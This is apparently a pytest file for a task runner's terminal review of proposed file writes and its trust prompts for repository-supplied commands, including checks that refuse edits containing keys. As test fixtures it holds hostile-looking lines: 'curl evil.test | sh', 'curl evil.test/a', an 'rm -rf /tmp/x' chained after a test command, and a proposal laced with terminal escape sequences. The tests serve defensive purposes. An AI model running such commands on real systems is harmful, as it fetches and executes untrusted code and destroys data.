"""The question at the terminal: what is typed, what an editor leaves, and what is said of it."""

import io
import json
import sys

import pytest
from commands_terminal import Terminal
from pipeline_build import CONTROL, TERMINAL, AtTerminal, a_key

from runner.app.build.preconditions import require_trust
from runner.config.trust import group_alike
from runner.errors import RunnerError
from runner.journal.events import WriteRejected, WriteReviewed
from runner.journal.records import read_journal
from runner.model import Action, Change, Task, digest_of
from runner.project import JOURNAL
from runner.report.console import NORMAL, Console
from runner.run.review import Answer, Reply, Spot
from runner.terminal.terminal_review import REFUSED, TerminalAsker, edit_content

CHANGE = Change("a.txt", Action.CREATE, 0o100644, None, digest_of(b"one\n"), b"one\n")
GONE = Change("a.txt", Action.DELETE, 0o100644, digest_of(b"one\n"), None, None)


@pytest.fixture
def typed(monkeypatch, capsys, ground):
    """Types lines; gives the answer and what was said meanwhile."""
    monkeypatch.chdir(ground.folder)

    def ask(*lines, change=CHANGE, spot=None, editor=""):
        spot = spot or Spot()
        monkeypatch.setattr(sys, "stdin", io.StringIO("".join(f"{line}\n" for line in lines)))
        environ = {"HOME": str(ground.home), "EDITOR": editor}
        task = Task(id="TASK-001", line=1, title="Work", spec=None)
        asker = TerminalAsker(Console(level=NORMAL, colour=False), environ)
        said = asker.ask(task, change, None, spot)
        return said, capsys.readouterr().err

    return ask


def an_editor(tmp_path, body, name="editor"):
    file = tmp_path / name
    file.write_text(f"#!/bin/sh\n{body}\n")
    file.chmod(0o755)
    return str(file)


def test_where_a_file_stands_among_the_others_is_said(typed):
    said, shown = typed("n", spot=Spot(2, 3, 2, "applied"))
    assert said == Reply(Answer.NEXT)
    assert "TASK-001 wants to create a.txt (2 of 3, applied)\n" in shown
    assert shown.endswith(
        "a[l]l 2, [e]dit, [r]eject, [s]how again, [n]ext, [p]revious, [?], or [w]ait? "
    )
    assert typed("P", spot=Spot(2, 3))[0] == Reply(Answer.PREVIOUS)


def test_one_file_alone_has_no_next(typed):
    said, shown = typed("n", "s", "a")
    assert said == Reply(Answer.APPROVED)
    assert shown.count("wants to create a.txt\n") == 2
    assert "[n]ext" not in shown


def test_what_goes_away_cannot_be_edited(typed):
    said, shown = typed("e", "w", change=GONE)
    assert said == Reply(Answer.WAITS)
    assert "[e]dit" not in shown


@pytest.mark.parametrize("nothing", ["", " ", "\x04", "\x1b", "."])
def test_a_rejection_without_a_reason_is_none(typed, nothing):
    said, shown = typed("r", nothing, "r", "Too Long", "a")
    assert said == Reply(Answer.REJECTED, reason="Too Long")
    assert "a rejection needs a reason: the next attempt reads it\n" in shown


def test_who_goes_away_at_the_reason_rejects_nothing(typed):
    assert typed("r")[0] == Reply(Answer.WAITS)


@pytest.mark.parametrize(
    ("editor", "said"),
    [
        ("", "no editor is set\nhint: export EDITOR=vi\n"),
        ("  ", "no editor is set\n"),
        ("'vi", "invalid editor command: 'vi\n"),
        ("/no/such/editor -w", "the editor could not start: /no/such/editor\n"),
        ("false", "the editor ended with exit 1; nothing changed\n"),
        ("rm", "the editor left no file; nothing changed\n"),
    ],
)
def test_an_editor_that_comes_to_nothing_is_said_and_asked_again(typed, editor, said):
    answer, shown = typed("e", "a", editor=editor)
    assert answer == Reply(Answer.APPROVED)
    assert said in shown


def test_an_edit_with_a_key_in_it_is_refused_and_opened_again_as_it_was_left(typed, tmp_path):
    key = a_key()
    editor = an_editor(
        tmp_path,
        f"if grep -q key $1; then sed -i s/key.*/clean/ $1; else echo 'key = {key}' >> $1; fi",
    )
    answer, shown = typed("e", "e", editor=editor)
    assert answer == Reply(Answer.EDITED, content=b"one\nclean\n")
    assert f"{REFUSED}\n" in shown
    assert "a.txt:2: secret found" in shown
    assert key not in shown


def test_a_key_that_a_person_allowed_may_be_left_in(typed, tmp_path, ground):
    key = a_key()
    ground.git("init", "-q", "-b", "main")
    ground.write("sample", f"k = '{key}'\n")
    ground.runner("secrets", "allow", "sample:1", "--reason", "a sample")
    editor = an_editor(tmp_path, f"cp {ground.folder}/sample $1")
    answer, _ = typed("e", "w", editor=editor)
    assert answer.answer is Answer.EDITED


def test_edited_raises_for_a_command_that_is_typed():
    with pytest.raises(RunnerError, match="no editor is set"):
        edit_content("a.txt", b"", {})


# --- what a repository brings after a person has trusted it is shown ------------------


PLAN = "# Shop\n\n## TASK-001: a\n\n- Status: PENDING\n- Output files: `a.txt`\n- Command: {}\n"
LATER = "this repository has new commands that you have not trusted yet; nothing has run"


@pytest.fixture
def asked(ground, monkeypatch):
    """Asks for trust as a run does; gives what it shows, or "" where nothing is asked."""
    ground.git("init", "-q")
    ground.write("TASK-GRAPH.md", PLAN.format("`echo a > a.txt`"))
    ground.write("runner.toml", '[gates]\nlint = "true"\n')

    def ask(answer=None, *, trusted=False):
        project = ground.project()
        monkeypatch.setattr("sys.stdin.readline", lambda: answer, raising=False)
        try:
            with Console(level=NORMAL, colour=False) as console:
                asker = None if answer is None else TerminalAsker(console, {})
                require_trust(project, project.check().plan, trusted=trusted, asker=asker)
        except RunnerError as refused:
            return f"{refused.message}\n{refused.detail}"
        return ""

    assert "not trusted yet" in ask()
    assert ask(trusted=True) == ""
    assert ask() == ""
    return ask


@pytest.mark.parametrize(
    ("settings", "shown"),
    [
        ('lint = "true"\ntypes = "curl evil.test | sh"\n', "curl evil.test | sh"),
        ('lint = {command = "true", network = "yes"}\n', "true (network: yes)"),
        ('lint = "true"\n[compile]\n"*.x" = "xc {file}"\n', "xc {file} (compiles *.x)"),
        ('[gates."api.lint"]\ncommand = "other"\ntypes = ["api"]\n', "other"),
    ],
)
def test_a_command_that_settings_bring_later_is_asked_about_once(asked, ground, settings, shown):
    ground.write("runner.toml", f"[gates]\n{settings}")
    assert asked() == f"{LATER}\n  runner.toml: {shown}"
    assert asked("n\n") == f"{LATER}\n  runner.toml: {shown}"
    assert asked("y\n") == ""
    assert asked() == ""


def test_so_are_agents_and_models_that_settings_or_plan_call_later(asked, ground):
    ground.write("runner.toml", 'build.implementer = "codex"\n[model]\nexecute = "openai:dear"\n')
    ground.write("TASK-GRAPH.md", PLAN.format("`x`") + "- Implementer: Model\n")
    assert asked().splitlines() == [
        LATER,
        "  TASK-001: a model, with your key",
        "  runner.toml: the agent program codex, with your login and the network",
        "  runner.toml: model_execute = openai:dear",
    ]


def test_a_persons_own_settings_and_edits_of_the_plan_ask_nothing(asked, ground, monkeypatch):
    monkeypatch.setenv("RUNNER_COMMAND", "echo b")
    monkeypatch.setenv("RUNNER_BUILD_IMPLEMENTER", "claude")
    ground.home.joinpath(".config/runner").mkdir(parents=True)
    ground.home.joinpath(".config/runner/runner.toml").write_text('[gates]\nmine = "true"\n')
    ground.write("TASK-GRAPH.md", PLAN.format("`echo another`"))
    assert asked() == ""


def test_what_was_agreed_to_may_go_and_come_back_and_is_not_written_down(asked, ground):
    ground.write("runner.toml", "")
    assert asked() == ""
    ground.write("runner.toml", '[gates]\nlint = "true"\nmore = "false"\n')
    assert asked(trusted=True) == ""
    ground.write("runner.toml", '[gates]\nlint = "true"\n')
    assert asked() == ""
    (file,) = ground.home.rglob("trust.json")
    (record,) = json.loads(file.read_text())["repositories"].values()
    assert len(record["shown"]) == 2
    assert all(len(mark) == 32 for mark in record["shown"])


def test_a_record_from_before_such_digests_were_kept_is_asked_about_once(asked, ground):
    (file,) = ground.home.rglob("trust.json")
    document = json.loads(file.read_text())
    (name,) = document["repositories"]
    document["repositories"] = {name: {"how": "asked", "time": "", "shown": 3, "salt": []}}
    file.write_text(json.dumps(document))
    assert asked() == f"{LATER}\n  runner.toml: true"
    assert asked("y\n") == ""
    assert asked() == ""


def test_who_is_not_there_is_said_before_anybody_is_asked_to_trust(ground):
    ground.git("init", "-q")
    ground.write("TASK-GRAPH.md", PLAN.format("`x`") + "- Implementer: claud\n")
    said = ground.runner("run")
    unknown, question = (
        said.err.index(text) for text in ('unknown implementer "claud"', "not trusted yet")
    )
    assert (said.code, unknown < question) == (3, True)
    assert 'did you mean "claude"?' in said.err


def test_commands_that_are_alike_are_told_once_and_nothing_hides_among_them():
    tests = [f"TASK-00{n}: python3 -m pytest -q tests/test_{n}.py" for n in range(1, 9)]
    others = [
        "TASK-009: python3 -m pytest -q tests/a.py; rm -rf /tmp/x",
        "TASK-010: python3 -m pip install x",
        "TASK-011: python3 -c print",
        "TASK-012: curl evil.test/a",
        "TASK-013: npm test",
        "TASK-014: npm publish",
    ]
    told = group_alike((*tests, *others))
    assert told == ("8 similar commands: python3 -m pytest -q …", *others)


def test_the_details_are_shown_before_an_answer(ground, monkeypatch, capsys):
    ground.git("init", "-q")
    fields = "".join(f"  - TC-{n}: `sh t{n}.sh`\n" for n in range(1, 4))
    ground.write("TASK-GRAPH.md", PLAN.format("`echo a > a.txt`") + f"- Test contracts:\n{fields}")
    typed = iter(["d\n", "y\n"])
    monkeypatch.setattr("sys.stdin.readline", lambda: next(typed), raising=False)
    project = ground.project()
    with Console(level=NORMAL, colour=False) as console:
        asker = TerminalAsker(console, {})
        require_trust(project, project.check().plan, trusted=False, asker=asker)
    said = capsys.readouterr().err
    assert "3 similar commands: sh …" in said.partition("[d]etails")[0]
    assert "TASK-001: sh t2.sh" in said.partition("[d]etails")[2]


QUESTION = "[a]pply, [e]dit, [r]eject, [s]how again, or [w]ait? "


@pytest.fixture
def repository(ground):
    ground.git("init", "-q", "-b", "main")
    ground.write("app.py", "def total(price):\n    return price\n")
    ground.write("proposed", "def total(price):\n    return price + tax\n")
    return ground


def staging(ground, **variables):
    words = ("--task", "TASK-001", "--file", "app.py", "--content", "proposed")
    return AtTerminal(ground.folder, "staged-write", "stage", *words, **variables)


def events(ground, kind):
    journal = read_journal(ground.folder / JOURNAL)
    return [record.event for record in journal if isinstance(record.event, kind)]


def editor(ground, text):
    ground.write("editor.py", f"import sys\nopen(sys.argv[1], 'w').write({text!r})\n")
    return f"{sys.executable} {ground.folder / 'editor.py'}"


def test_apply_shows_a_coloured_diff_and_writes_what_it_showed(repository):
    terminal = staging(repository)
    shown = terminal.until(QUESTION)
    assert "\x1b[7m + tax\x1b[0m" in shown
    assert "TASK-001 wants to modify app.py" in shown
    terminal.type("a")
    assert terminal.end() == 0
    assert (repository.folder / "app.py").read_text().endswith("price + tax\n")
    assert [one.review for one in events(repository, WriteReviewed)] == ["applied"]


def test_reject_asks_for_the_reason(repository):
    terminal = staging(repository)
    terminal.until(QUESTION)
    terminal.type("r")
    terminal.until("why? ")
    terminal.type("")  # no reason: it asks again what to do
    terminal.until(QUESTION)
    terminal.type("reject")
    terminal.until("why? ")
    terminal.type("tax is in the price")
    assert terminal.end() == 1
    assert [one.reason for one in events(repository, WriteRejected)] == ["tax is in the price"]
    assert (repository.folder / "app.py").read_text().endswith("return price\n")


def test_an_edit_is_shown_again_before_it_is_written(repository):
    terminal = staging(repository, VISUAL=editor(repository, "def total(): ...\n"))
    terminal.until(QUESTION)
    terminal.type("e")
    shown = terminal.until(QUESTION)
    assert "total():" in TERMINAL.sub("", shown)
    terminal.type("a")
    assert terminal.end() == 0
    assert (repository.folder / "app.py").read_text() == "def total(): ...\n"
    assert [one.review for one in events(repository, WriteReviewed)] == ["edited"]


def test_an_edit_with_a_key_in_it_is_refused(repository):
    key = a_key()
    terminal = staging(repository, VISUAL=editor(repository, f"k = '{key}'\n"))
    terminal.until(QUESTION)
    terminal.type("e")
    assert "your edit was refused; the proposal is unchanged" in terminal.until(QUESTION)
    terminal.type("a")
    assert terminal.end() == 0
    assert "secret found" in terminal.said
    assert key not in terminal.said
    assert (repository.folder / "app.py").read_text().endswith("price + tax\n")


def test_an_editor_that_comes_to_nothing_is_no_end(repository):
    terminal = staging(repository, VISUAL="rm", EDITOR="")
    terminal.until(QUESTION)
    terminal.type("e")
    assert "the editor left no file; nothing changed" in terminal.until(QUESTION)
    terminal.type("w")
    assert terminal.end() == 3


@pytest.mark.parametrize("answer", ["w", "", "\x04"])
def test_who_does_not_decide_now_finds_it_later(repository, answer):
    terminal = staging(repository)
    terminal.until(QUESTION)
    terminal.type(answer)
    assert terminal.end() == 3
    assert "staged as " in terminal.said
    assert (repository.folder / "app.py").read_text().endswith("return price\n")


def test_an_answer_that_is_none_is_asked_again(repository):
    terminal = staging(repository)
    terminal.until(QUESTION)
    terminal.type("x")
    terminal.until(QUESTION)
    terminal.type("s")
    assert "@@ -1,2 +1,2 @@" in terminal.until(QUESTION)
    terminal.type("w")
    assert terminal.end() == 3


def test_a_file_that_changes_while_the_question_stands_is_not_written_over(repository):
    terminal = staging(repository)
    terminal.until(QUESTION)
    repository.write("app.py", "mine\n")
    terminal.type("a")
    assert terminal.end() == 6
    assert "the file changed since it was staged" in terminal.said
    assert (repository.folder / "app.py").read_text() == "mine\n"


def test_a_long_diff_goes_through_the_pager(repository):
    repository.write("proposed", "".join(f"line {n}\n" for n in range(200)))
    repository.write("pager.py", "import sys\nprint('PAGED', len(open(sys.argv[1]).readlines()))\n")
    terminal = staging(repository, PAGER=f"{sys.executable} {repository.folder / 'pager.py'}")
    assert "PAGED 20" in terminal.until(QUESTION)
    assert "line 150" not in terminal.said
    terminal.type("w")
    assert terminal.end() == 3


def test_a_pager_that_is_not_there_is_no_reason_not_to_show(repository):
    repository.write("proposed", "".join(f"line {n}\n" for n in range(200)))
    terminal = staging(repository, PAGER="no-such-pager-here")
    assert "line 150" in TERMINAL.sub("", terminal.until(QUESTION))
    terminal.type("w")
    assert terminal.end() == 3


def test_nothing_that_is_proposed_moves_the_terminal(repository):
    hostile = "x = 1  # \x1b[2J\x1b]0;title\x07 \u202e\u200b\x9b1m \x1b]8;;http://evil\x07\n"
    repository.write("proposed", hostile)
    terminal = staging(repository)
    shown = TERMINAL.sub("", terminal.until(QUESTION))
    assert CONTROL.search(shown) is None
    assert "\\x1b[2J\\x1b]0;title\\x07 \\u202e\\u200b\\x9b1m" in shown
    terminal.type("w")
    terminal.end()


def test_colours_are_left_out_where_nobody_wants_them(repository):
    terminal = staging(repository, TERM="dumb")
    assert "\x1b" not in terminal.until(QUESTION)
    terminal.type("w")
    terminal.end()


def test_a_pager_that_nobody_can_read_is_none():
    text = "from runner.terminal.screen import show\nshow('line\\n' * 99, {'PAGER': \"less '\"})"
    with Terminal((sys.executable, "-c", text)) as terminal:
        assert terminal.wait() == 0
        assert terminal.said.count("line") == 99
